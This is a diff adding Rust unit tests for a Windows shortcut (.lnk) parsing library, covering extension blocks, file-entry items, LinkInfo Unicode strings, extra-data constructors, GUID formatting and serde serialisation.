+    let mut file_entry = vec![0x21, 0x59, 0x3c, 0x7a, 0x22, 0x59, 0x00, 0x00, 0x14, 0x00];
+    file_entry.extend_from_slice(&[0, 0]);
+    file_entry.extend(
+        "Long file name.txt\0"
+            .encode_utf16()
+            .flat_map(u16::to_le_bytes),
+    );
+    file_entry.extend_from_slice(&[0x0e, 0x00]);
+    let mut timestamps = vec![0, 0];
+    timestamps.extend_from_slice(&0x01d5_0000_0000_0000u64.to_le_bytes());
+    timestamps.extend_from_slice(&0x01d6_0000_0000_0000u64.to_le_bytes());
+
+    let mut data = vec![
+        0x32, 0x00, 0x00, 0x00, 0x00, 0x00, b'L', b'O', b'N', b'G', 0, 0,
+    ];
+    data.extend(testing::extension_block(FILE_ENTRY_BLOCK, 3, &file_entry));
+    data.extend(testing::extension_block(0xbeef0099, 1, &[1, 2, 3, 4]));
+    data.extend(testing::extension_block(TIMESTAMPS_BLOCK, 0, &timestamps));
+    data.extend(testing::extension_block(
+        GUID_BLOCK,
+        0,
+        &guids::CLSID_MY_COMPUTER.to_bytes_le(),
+    ));
+    data.extend_from_slice(&[0x0e, 0x00]);
+    let mut item = (data.len() as u16 + 2).to_le_bytes().to_vec();
+    item.extend(data);
+
+    let item = lnk::linktarget::ItemID::try_from(&item[..]).unwrap();
+    let blocks = item.extension_blocks();
+    assert_eq!(
+        blocks
+            .iter()
+            .map(ExtensionBlock::signature)
+            .collect::<Vec<_>>(),
+        [FILE_ENTRY_BLOCK, 0xbeef0099, TIMESTAMPS_BLOCK, GUID_BLOCK]
+    );
+    match blocks[0].contents() {
+        ExtensionBlockContents::FileEntry(extension) => {
+            assert_eq!(extension.created().raw(), 0x7a3c_5921);
+            assert_eq!(extension.long_name(), "Long file name.txt");
+            assert_eq!(extension.localized_name(), &None);
+            assert_eq!(extension.file_reference(), None);
+        }
+        contents => panic!("unexpected {:?}", contents),
+    }
+    assert_eq!(blocks[1].version(), 1);
+    assert_eq!(blocks[1].data(), &[1, 2, 3, 4]);
+    assert_eq!(blocks[1].contents(), &ExtensionBlockContents::Raw);
+    assert_eq!(
+        blocks[2].contents(),
+        &ExtensionBlockContents::Timestamps(vec![
+            FileTime::from_raw(0x01d5_0000_0000_0000),
+            FileTime::from_raw(0x01d6_0000_0000_0000),
+        ])
+    );
+    assert_eq!(
+        blocks[3].contents(),
+        &ExtensionBlockContents::Guid(guids::CLSID_MY_COMPUTER)
+    );
+
+    // The root and drive items of the test file have no extension blocks,
+    // and its file entry items a version 7 block each
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let items = shortcut.link_target_id_list().as_ref().unwrap().id_list();
+    assert!(items[..2]
+        .iter()
+        .all(|item| item.extension_blocks().is_empty()));
+    let extensions: Vec<_> = items[2..]
+        .iter()
+        .map(|item| match item.extension_blocks()[..] {
+            [ref block] => match block.contents() {
+                ExtensionBlockContents::FileEntry(extension) => extension.clone(),
+                contents => panic!("unexpected {:?}", contents),
+            },
+            ref blocks => panic!("unexpected {:?}", blocks),
+        })
+        .collect();
+    assert_eq!(extensions[0].long_name(), "test");
+    assert_eq!(extensions[0].file_reference(), Some(0x1ef5_0000_0000_1e03));
+    assert_eq!(extensions[1].long_name(), "a.txt");
+}
+
+#[test]
+fn test_file_entry_items() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let items = shortcut.link_target_id_list().as_ref().unwrap().id_list();
+    assert!(items[..2].iter().all(|item| item.file_entry().is_none()));
+
+    let folder = items[2].file_entry().unwrap();
+    assert!(folder.is_directory());
+    assert_eq!(folder.short_name(), "test");
+    assert_eq!(folder.long_name().map(String::as_str), Some("test"));
+    assert_eq!(folder.modified().to_string(), "2008-09-12 20:27:18");
+    assert_eq!(folder.attributes(), 0x10);
+    let file = items[3].file_entry().unwrap();
+    assert!(!file.is_directory());
+    assert_eq!(file.short_name(), "a.txt");
+    assert_eq!(file.name(), "a.txt");
+
+    // A file renamed after the short name was made
+    let data = testing::file_entry_item("REPORT~1.PDF", "invoice.pdf.exe");
+    let mut item = (data.len() as u16 + 2).to_le_bytes().to_vec();
+    item.extend(data);
+    let item = lnk::linktarget::ItemID::try_from(&item[..]).unwrap();
+    let entry = item.file_entry().unwrap();
+    assert_eq!(entry.short_name(), "REPORT~1.PDF");
+    assert_eq!(
+        entry.long_name().map(String::as_str),
+        Some("invoice.pdf.exe")
+    );
+    assert_eq!(entry.name(), "invoice.pdf.exe");
+    assert_eq!(entry.extension().as_ref().unwrap().localized_name(), &None);
+
+    // Items written before Windows XP have no extension block
+    let data = [
+        0x32, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x20, 0, b'A', b'.', b'T', b'X', b'T', 0,
+    ];
+    let mut item = (data.len() as u16 + 2).to_le_bytes().to_vec();
+    item.extend(data);
+    let entry = lnk::linktarget::ItemID::try_from(&item[..])
+        .unwrap()
+        .file_entry()
+        .unwrap();
+    assert_eq!(entry.long_name(), None);
+    assert_eq!(entry.name(), "A.TXT");
+}
+
+#[test]
+fn test_fixtures() {
+    let parse = |fixture: &LinkFixture| {
+        let data = fixture.to_bytes();
+        let (shortcut, consumed) = ShellLink::from_slice(&data).unwrap();
+        assert_eq!(shortcut.warnings(), [], "{:?}", fixture);
+        assert_eq!(consumed, data.len() - fixture.trailing_data.len());
+        shortcut
+    };
+
+    let shortcut = parse(&LinkFixture::default());
+    assert_eq!(*shortcut.header().link_flags(), LinkFlags::IS_UNICODE);
+
+    let mut fixture = LinkFixture::local(r"C:\Users\Public\report.pdf");
+    fixture.id_list = Some(vec![
+        testing::root_item(guids::CLSID_MY_COMPUTER),
+        testing::drive_item(r"C:\"),
+    ]);
+    fixture.arguments = Some("/print".to_string());
+    fixture.unicode = false;
+    fixture.trailing_data = b"appended".to_vec();
+    let shortcut = parse(&fixture);
+    assert_eq!(
+        shortcut
+            .link_target_id_list()
+            .as_ref()
+            .unwrap()
+            .id_list()
+            .len(),
+        2
+    );
+    assert_eq!(
+        shortcut.target_windows_path().unwrap().as_str(),
+        r"C:\Users\Public\report.pdf"
+    );
+    assert_eq!(
+        shortcut.working_dir(),
+        &Some(r"C:\Users\Public".to_string())
+    );
+    assert_eq!(shortcut.arguments(), &Some("/print".to_string()));
+    assert_eq!(shortcut.trailing_data().unwrap().size(), 8);
+
+    let mut fixture = LinkFixture::network(r"\\fileserver\public", r"tools\setup.exe");
+    if let Some(LinkInfoFixture::Network { device_name, .. }) = &mut fixture.link_info {
+        *device_name = Some("Z:".to_string());
+    }
+    let shortcut = parse(&fixture);
+    let network = shortcut
+        .link_info()
+        .as_ref()
+        .unwrap()
+        .common_network_relative_link()
+        .clone()
+        .unwrap();
+    assert_eq!(network.net_name(), r"\\fileserver\public");
+    assert_eq!(network.device_name().map(String::as_str), Some("Z:"));
+    assert_eq!(
+        shortcut.target_windows_path().unwrap().as_str(),
+        r"\\fileserver\public\tools\setup.exe"
+    );
+
+    let guid: Guid = "7BCD46EC-7F22-11DD-9499-00137216874A".parse().unwrap();
+    let blocks = [
+        testing::environment_block(r"%windir%\notepad.exe"),
+        testing::console_block(),
+        testing::tracker_block("workstation", guid, guid),
+        testing::console_fe_block(932),
+        testing::special_folder_block(0x25, 0),
+        testing::darwin_block("product>feature>component"),
+        testing::icon_environment_block(r"%SystemRoot%\icon.ico"),
+        testing::shim_block("WinXPSp3"),
+        testing::property_store_block(&[0; 4]),
+        testing::vista_id_list_block(&[testing::root_item(guids::CLSID_MY_COMPUTER)]),
+        testing::known_folder_block(guid, 0),
+    ];
+    let shortcut = parse(&LinkFixture {
+        extra_data: blocks.to_vec(),
+        ..Default::default()
+    });
+    let extra_data = shortcut.extra_data();
+    assert_eq!(extra_data.len(), blocks.len());
+    assert!(matches!(&extra_data[0], ExtraData::EnvironmentProps(props)
+        if props.target_unicode().as_deref() == Some(r"%windir%\notepad.exe")));
+    assert!(matches!(&extra_data[1], ExtraData::ConsoleProps(props)
+        if props.face_name() == "Consolas"));
+    assert!(matches!(&extra_data[2], ExtraData::TrackerProps(tracker)
+        if tracker.machine_name() == Some("workstation")));
+    assert!(matches!(&extra_data[3], ExtraData::ConsoleFeProps(props)
+        if props.code_page() == 932));
+    assert!(matches!(&extra_data[7], ExtraData::ShimProps(props)
+        if props.layer_name() == "WinXPSp3"));
+    assert!(matches!(&extra_data[10], ExtraData::KnownFolderProps(props)
+        if props.known_folder_id() == guid));
+}
+
+#[test]
+fn test_shell_link_display() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(
+        shortcut.to_string(),
+        [
+            r"Target:      C:\test\a.txt",
+            r"Working dir: C:\test",
+            "Created:     2008-09-12 20:27:17.101 UTC",
+            "Modified:    2008-09-12 20:27:17.101 UTC",
+            "Accessed:    2008-09-12 20:27:17.101 UTC",
+        ]
+        .join("\n")
+    );
+}
+
+#[cfg(feature = "serde")]
+#[test]
+fn test_hotkey_serde() {
+    let hotkey = HotkeyFlags::new(HotkeyKey::Numpad7, HotkeyModifiers::HOTKEYF_SHIFT);
+    let json = serde_json::to_string(&hotkey).unwrap();
+    assert_eq!(json, "\"Shift+Numpad7\"");
+    assert_eq!(serde_json::from_str::<HotkeyFlags>(&json).unwrap(), hotkey);
+}
+
+#[test]
+fn test_header_reserved_values() {
+    use std::convert::TryFrom;
+
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert!(shortcut.header().reserved_are_zero());
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[68..72].copy_from_slice(&0xdead_beefu32.to_le_bytes());
+    let header = ShellLinkHeader::try_from(&data[0..0x4c]).unwrap();
+    assert_eq!(header.reserved1(), 0);
+    assert_eq!(header.reserved2(), 0xdead_beef);
+    assert_eq!(header.reserved3(), 0);
+    assert!(!header.reserved_are_zero());
+}
+
+#[test]
+fn test_unknown_flag_bits_are_kept() {
+    use std::convert::TryFrom;
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let link_flags = LinkFlags::IS_UNICODE.bits() | 0x8000_0000;
+    data[20..24].copy_from_slice(&link_flags.to_le_bytes());
+    let file_attributes = FileAttributeFlags::FILE_ATTRIBUTE_INTEGRITY_STREAM.bits() | 0x8000_0000;
+    data[24..28].copy_from_slice(&file_attributes.to_le_bytes());
+    let header = ShellLinkHeader::try_from(&data[0..0x4c]).unwrap();
+
+    assert_eq!(header.link_flags().bits(), link_flags);
+    assert!(header.link_flags().contains(LinkFlags::IS_UNICODE));
+    assert_eq!(header.file_attributes().bits(), file_attributes);
+    assert!(header
+        .file_attributes()
+        .contains(FileAttributeFlags::FILE_ATTRIBUTE_INTEGRITY_STREAM));
+}
+
+#[test]
+fn test_flag_names() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let names: Vec<&str> = shortcut.header().link_flags().names().collect();
+    assert_eq!(
+        names,
+        [
+            "HAS_LINK_TARGET_ID_LIST",
+            "HAS_LINK_INFO",
+            "HAS_RELATIVE_PATH",
+            "HAS_WORKING_DIR",
+            "IS_UNICODE",
+            "ENABLE_TARGET_METADATA",
+        ]
+    );
+    let unknown = LinkFlags::from_bits_retain(LinkFlags::IS_UNICODE.bits() | 0x8000_0000);
+    assert!(unknown.names().eq(["IS_UNICODE"]));
+    assert_eq!(LinkFlags::all_names().count(), 27);
+    assert_eq!(
+        FileAttributeFlags::all_names().next(),
+        Some("FILE_ATTRIBUTE_READONLY")
+    );
+
+    assert_eq!(
+        LinkFlags::from_flag_name("HAS_LINK_INFO"),
+        Some(LinkFlags::HAS_LINK_INFO)
+    );
+    assert_eq!(
+        LinkFlags::from_flag_name("KeepLocalIDListForUNCTarget"),
+        Some(LinkFlags::KEEP_LOCAL_ID_LIST_FOR_UNC_TARGET)
+    );
+    assert_eq!(
+        FileAttributeFlags::from_flag_name("file_attribute_hidden"),
+        Some(FileAttributeFlags::FILE_ATTRIBUTE_HIDDEN)
+    );
+    assert_eq!(LinkFlags::from_flag_name("HAS_NOTHING"), None);
+}
+
+#[test]
+fn test_extra_data_constructors() {
+    use lnk::extradata::console_data::ConsoleDataBlock;
+    use lnk::extradata::console_fe_data::ConsoleFEDataBlock;
+    use lnk::extradata::darwin_data::DarwinDataBlock;
+    use lnk::extradata::environment_variable_data::EnvironmentVariableDataBlock;
+    use lnk::extradata::known_folder_data::KnownFolderDataBlock;
+    use lnk::extradata::property_store_data::PropertyStoreDataBlock;
+    use lnk::extradata::shim_data::ShimDataBlock;
+    use lnk::extradata::special_folder_data::SpecialFolderDataBlock;
+    use lnk::extradata::tracker_data::TrackerDataBlock;
+    use lnk::extradata::vista_and_above_id_list_data::VistaAndAboveIdListDataBlock;
+
+    let mut console = ConsoleDataBlock::default();
+    assert_eq!(console.face_name(), "Consolas");
+    assert_eq!(
+        (console.window_size_x(), console.window_size_y()),
+        (&120, &30)
+    );
+    assert_eq!(console.color_table()[15], 0xffffff);
+    console.set_face_name("Lucida Console".to_string());
+    console.set_quick_edit(false);
+    assert_eq!(console.face_name(), "Lucida Console");
+    assert!(!console.quick_edit());
+
+    assert_eq!(ConsoleFEDataBlock::new(932).code_page(), 932);
+    assert_eq!(ConsoleFEDataBlock::default().code_page(), 0);
+
+    let environment = EnvironmentVariableDataBlock::new(r"%windir%\notepad.exe").unwrap();
+    assert_eq!(environment.target_ansi(), r"%windir%\notepad.exe");
+    assert_eq!(
+        environment.target_unicode().as_deref(),
+        Some(r"%windir%\notepad.exe")
+    );
+    assert!(EnvironmentVariableDataBlock::default()
+        .target_unicode()
+        .is_none());
+    assert_eq!(
+        DarwinDataBlock::new("app")
+            .unwrap()
+            .darwin_data_unicode()
+            .as_deref(),
+        Some("app")
+    );
+    assert_eq!(ShimDataBlock::new("WinXPSp3").layer_name(), "WinXPSp3");
+    assert_eq!(SpecialFolderDataBlock::new(0x25, 0x14).offset(), 0x14);
+    assert_eq!(KnownFolderDataBlock::default().known_folder_id(), Guid::NIL);
+    assert_eq!(
+        PropertyStoreDataBlock::new(vec![1, 2]).property_store(),
+        &[1, 2]
+    );
+    assert!(VistaAndAboveIdListDataBlock::default().id_list().is_empty());
+
+    // A tracker block built by hand reads the same as one parsed.
+    let guid: Guid = "7BCD46EC-7F22-11DD-9499-00137216874A".parse().unwrap();
+    let tracker = TrackerDataBlock::new("workstation", [guid; 2], [guid; 2]).unwrap();
+    let data = testing::tracker_block("workstation", guid, guid);
+    let parsed = TrackerDataBlock::try_from(&data[8..]).unwrap();
+    assert_eq!(tracker.machine_id(), parsed.machine_id());
+    assert_eq!(tracker.machine_id_raw(), parsed.machine_id_raw());
+    assert_eq!(tracker.droid_birth(), parsed.droid_birth());
+    assert_eq!(TrackerDataBlock::default().machine_id_raw(), [0; 16]);
+    // Names that cannot be stored as they are are refused.
+    assert!(matches!(
+        TrackerDataBlock::new("a-very-long-machine-name", [guid; 2], [guid; 2]),
+        Err(Error::FieldTooLong {
+            limit: 15,
+            length: 24,
+            ..
+        })
+    ));
+    for name in ["", "work/station", "работа"] {
+        assert!(matches!(
+            TrackerDataBlock::new(name, [guid; 2], [guid; 2]),
+            Err(Error::UnexpectedValue {
+                field: "MachineID",
+                ..
+            })
+        ));
+    }
+}
+
+#[test]
+fn test_unicode_strings_in_link_info() {
+    let utf16 = |string: &str| -> Vec<u8> {
+        string
+            .encode_utf16()
+            .chain([0])
+            .flat_map(u16::to_le_bytes)
+            .collect()
+    };
+
+    // A VolumeID whose label is stored only in Unicode, after some padding.
+    let mut volume = [0x24u32, 3, 0x1234_5678, 0x14, 0x18]
+        .iter()
+        .flat_map(|field| field.to_le_bytes())
+        .collect::<Vec<u8>>();
+    volume.extend_from_slice(&[0xff; 4]);
+    volume.extend_from_slice(&utf16("Données"));
+    let parsed = lnk::linkinfo::VolumeID::try_from(volume.as_slice()).unwrap();
+    assert_eq!(parsed.volume_label(), "Données");
+
+    // A LinkInfo with the Unicode versions of its paths.
+    let local_base_path = r"C:\Données.txt";
+    let mut body = volume.clone();
+    let ansi_path = 0x24 + body.len() as u32;
+    body.extend_from_slice(b"C:\\Donn?es\\a.txt\0");
+    let ansi_suffix = 0x24 + body.len() as u32;
+    body.push(0);
+    let unicode_path = 0x24 + body.len() as u32;
+    body.extend_from_slice(&utf16(local_base_path));
+    let unicode_suffix = 0x24 + body.len() as u32;
+    body.extend_from_slice(&utf16(""));
+    let size = 0x24 + body.len() as u32;
+    let header = [
+        size,
+        0x24,
+        1,
+        0x24,
+        ansi_path,
+        0,
+        ansi_suffix,
+        unicode_path,
+        unicode_suffix,
+    ];
+    let mut data: Vec<u8> = header
+        .iter()
+        .flat_map(|field| field.to_le_bytes())
+        .collect();
+    data.extend_from_slice(&body);
+    let link_info = LinkInfo::try_from(data.as_slice()).unwrap();
+    assert_eq!(
+        link_info.local_base_path_unicode().as_deref(),
+        Some(local_base_path)
+    );
+    assert_eq!(link_info.common_path_suffix_unicode().as_deref(), Some(""));
+    assert_eq!(
+        link_info.volume_id().as_ref().unwrap().volume_label(),
+        "Données"
+    );
+}
+
+#[test]
+fn test_common_network_relative_link_strings() {
+    use lnk::linkinfo::CommonNetworkRelativeLink;
+
+    let utf16 = |string: &str| -> Vec<u8> {
+        string
+            .encode_utf16()
+            .chain([0])
+            .flat_map(u16::to_le_bytes)
+            .collect()
+    };
+
+    // ValidDevice and ValidNetType, with the Unicode names after the ANSI
+    // ones.
+    let mut body = b"\\\\serveur\\donn?es\0Z:\0".to_vec();
+    let net_name_unicode = 0x1c + body.len() as u32;
+    body.extend_from_slice(&utf16(r"\\serveur\données"));
+    let device_name_unicode = 0x1c + body.len() as u32;
+    body.extend_from_slice(&utf16("Z:"));
+    let header = [
+        0x1c + body.len() as u32,
+        3,
+        0x1c,
+        0x1c + 18,
+        0x0002_0000,
+        net_name_unicode,
+        device_name_unicode,
+    ];
+    let mut data: Vec<u8> = header
+        .iter()
+        .flat_map(|field| field.to_le_bytes())
+        .collect();
+    data.extend_from_slice(&body);
+    let link = CommonNetworkRelativeLink::try_from(data.as_slice()).unwrap();
+    assert_eq!(link.net_name(), r"\\serveur\données");
+    assert_eq!(link.net_name_ansi(), r"\\serveur\donn?es");
+    assert_eq!(link.device_name().map(String::as_str), Some("Z:"));
+    assert_eq!(link.device_name_ansi().as_deref(), Some("Z:"));
+    assert_eq!(link.device_name_unicode().as_deref(), Some("Z:"));
+
+    // Neither a device nor the Unicode names: the fields that are not
+    // present are not read.
+    let mut data: Vec<u8> = [0x14 + 15, 0, 0x14, 0, 0u32]
+        .iter()
+        .flat_map(|field| field.to_le_bytes())
+        .collect();
+    data.extend_from_slice(b"\\\\server\\share\0");
+    let link = CommonNetworkRelativeLink::try_from(data.as_slice()).unwrap();
+    assert_eq!(link.net_name(), r"\\server\share");
+    assert_eq!(link.device_name(), None);
+    assert_eq!(link.device_name_ansi(), &None);
+    assert_eq!(link.net_name_unicode(), &None);
+    assert_eq!(link.device_name_unicode(), &None);
+}
+
+#[test]
+fn test_long_paths() {
+    use lnk::extradata::environment_variable_data::EnvironmentVariableDataBlock;
+    use lnk::extradata::icon_environment_data::IconEnvironmentDataBlock;
+
+    let longest = format!(r"C:\{}", "a".repeat(256));
+    let block = EnvironmentVariableDataBlock::new(longest.as_str()).unwrap();
+    assert_eq!(block.target_ansi(), &longest);
+    assert_eq!(block.target_unicode().as_ref(), Some(&longest));
+
+    let too_long = format!("{}a", longest);
+    assert!(matches!(
+        EnvironmentVariableDataBlock::new(too_long.as_str()),
+        Err(Error::FieldTooLong {
+            structure: "EnvironmentVariableDataBlock",
+            field: "TargetUnicode",
+            limit: 259,
+            length: 260,
+        })
+    ));
+    let error = IconEnvironmentDataBlock::new(too_long).unwrap_err();
+    assert_eq!(
+        error.to_string(),
+        "IconEnvironmentDataBlock: TargetUnicode holds at most 259 characters, but the string has 260"
+    );
+
+    // Paths that cannot be written in the code page are only stored as
+    // Unicode.
+    let block = EnvironmentVariableDataBlock::new(r"%USERPROFILE%\文档").unwrap();
+    assert_eq!(block.target_ansi(), "");
+    assert_eq!(
+        block.target_unicode().as_deref(),
+        Some(r"%USERPROFILE%\文档")
+    );
+}
+
+#[test]
+#[should_panic(expected = "does not fit")]
+fn test_fixture_long_path() {
+    testing::environment_block(&"a".repeat(260));
+}
+
+#[test]
+fn test_guid_formatting() {
+    const SHELL_LINK: Guid = Guid::from_fields(
+        0x0002_1401,
+        0x0000,
+        0x0000,
+        [0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46],
+    );
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let guid = Guid::try_from(&data[4..20]).unwrap();
+    assert!(matches!(
+        Guid::try_from(&data[4..19]),
+        Err(Error::UnexpectedEof {
+            needed: 16,
+            available: 15,
+            ..
+        })
+    ));
+
+    assert_eq!(guid, SHELL_LINK);
+    assert_eq!(
+        guid,
+        Guid::from_u128(0x00021401_0000_0000_c000_000000000046)
+    );
+    assert_eq!(guid.to_bytes_le(), data[4..20]);
+    assert_eq!(guid.to_string(), "{00021401-0000-0000-C000-000000000046}");
+    assert_eq!(
+        "{00021401-0000-0000-c000-000000000046}".parse::<Guid>(),
+        Ok(guid)
+    );
+    assert_eq!(
+        "00021401-0000-0000-C000-000000000046".parse::<Guid>(),
+        Ok(guid)
+    );
+    assert!("{00021401-0000-0000-C000-00000000004}"
+        .parse::<Guid>()
+        .is_err());
+    assert!(Guid::NIL.is_nil());
+}
+
+#[cfg(feature = "uuid")]
+#[test]
+fn test_guid_uuid_equality() {
+    let uuid = uuid::Uuid::parse_str("00021401-0000-0000-c000-000000000046").unwrap();
+    let guid: Guid = "{00021401-0000-0000-C000-000000000046}".parse().unwrap();
+    assert_eq!(guid, uuid);
+    assert_eq!(uuid, guid);
+    assert_eq!(uuid::Uuid::from(guid), uuid);
+}
+
+#[cfg(feature = "serde")]
+#[test]
+fn test_flags_serde_names() {
+    #[derive(serde::Serialize, serde::Deserialize)]
+    struct Flags {
+        #[serde(with = "lnk::flags::serde_names")]
+        names: LinkFlags,
+        #[serde(with = "lnk::flags::serde_bits")]
+        bits: LinkFlags,
+    }
+
+    let flags = LinkFlags::HAS_NAME | LinkFlags::IS_UNICODE | LinkFlags::from_bits_retain(1 << 31);
+    let json = serde_json::to_value(Flags {
+        names: flags,
+        bits: flags,
+    })
+    .unwrap();
+    assert_eq!(json["names"]["bits"], flags.bits());
+    assert_eq!(
+        json["names"]["names"],
+        serde_json::json!(["HAS_NAME", "IS_UNICODE"])
+    );
+    assert_eq!(json["bits"], flags.bits());
+
+    let parsed: Flags = serde_json::from_value(json).unwrap();
+    assert_eq!(parsed.names, flags);
+    assert_eq!(parsed.bits, flags);
+
+    let parsed: LinkFlags = serde_json::from_str(r#"["HAS_NAME", "IS_UNICODE"]"#).unwrap();
+    assert_eq!(parsed, LinkFlags::HAS_NAME | LinkFlags::IS_UNICODE);
+    assert!(serde_json::from_str::<LinkFlags>(r#"["NOT_A_FLAG"]"#).is_err());
+}
+
+#[cfg(feature = "serde")]
+#[test]
+fn test_shell_link_serialize() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let json = serde_json::to_value(&shortcut).unwrap();
+
+    let header = &json["shell_link_header"];
+    let link_flags = shortcut.header().link_flags().bits();
+    assert_eq!(header["link_flags"], link_flags);
+    assert_eq!(header["show_command"], "ShowNormal");
+    assert_eq!(header["hotkey"], "None");
+    assert!(json["linktarget_id_list"]["id_list"].is_array());
+    assert_eq!(json["link_info"]["common_path_suffix"], "");
+    assert_eq!(json["relative_path"], r".\a.txt");
+    assert_eq!(json["working_dir"], r"C:\test");
+    assert!(json["extra_data"].is_array());
+}
+
+#[cfg(feature = "schemars")]
+#[test]
+fn test_json_schema() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let json = serde_json::to_value(&shortcut).unwrap();
+    let schema = schemars::generate::SchemaSettings::default()
+        .for_serialize()
+        .into_generator()
+        .into_root_schema_for::<ShellLink>();
+    let schema = schema.as_value();
+    let defs = &schema["$defs"];
+
+    let properties = |schema: &serde_json::Value| {
+        let mut keys: Vec<String> = schema["properties"]
+            .as_object()
+            .unwrap()
+            .keys()
+            .cloned()
+            .collect();
+        keys.sort();
+        keys
+    };
+    let keys = |value: &serde_json::Value| {
+        let mut keys: Vec<String> = value.as_object().unwrap().keys().cloned().collect();
+        keys.sort();
+        keys
+    };
+    assert_eq!(properties(schema), keys(&json));
+    assert_eq!(
+        properties(&defs["ShellLinkHeader"]),
+        keys(&json["shell_link_header"])
+    );
+    assert_eq!(properties(&defs["LinkInfo"]), keys(&json["link_info"]));
+
+    assert_eq!(defs["LinkFlags"]["type"], "integer");
+    let schema = schemars::generate::SchemaSettings::default()
+        .for_deserialize()
+        .into_generator()
+        .into_root_schema_for::<ShellLink>();
+    let names = &schema.as_value()["$defs"]["LinkFlags"]["anyOf"][1]["items"]["enum"];
+    assert!(names
+        .as_array()
+        .unwrap()
+        .contains(&serde_json::json!("HAS_LINK_TARGET_ID_LIST")));
+    assert_eq!(defs["HotkeyFlags"]["type"], "string");
+    assert_eq!(defs["Guid"]["type"], "string");
+    assert!(defs["FileTime"]["anyOf"].is_array());
+}
+
+#[cfg(feature = "serde")]
+#[test]
+fn test_shell_link_deserialize() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let json = serde_json::to_string(&shortcut).unwrap();
+    let parsed: ShellLink = serde_json::from_str(&json).unwrap();
+
+    assert_eq!(parsed.header().link_flags(), shortcut.header().link_flags());
+    assert_eq!(
+        parsed.header().creation_time().raw(),
+        shortcut.header().creation_time().raw()
+    );
+    assert_eq!(parsed.relative_path(), shortcut.relative_path());
+    assert_eq!(parsed.working_dir(), shortcut.working_dir());
+    assert_eq!(serde_json::to_string(&parsed).unwrap(), json);
+}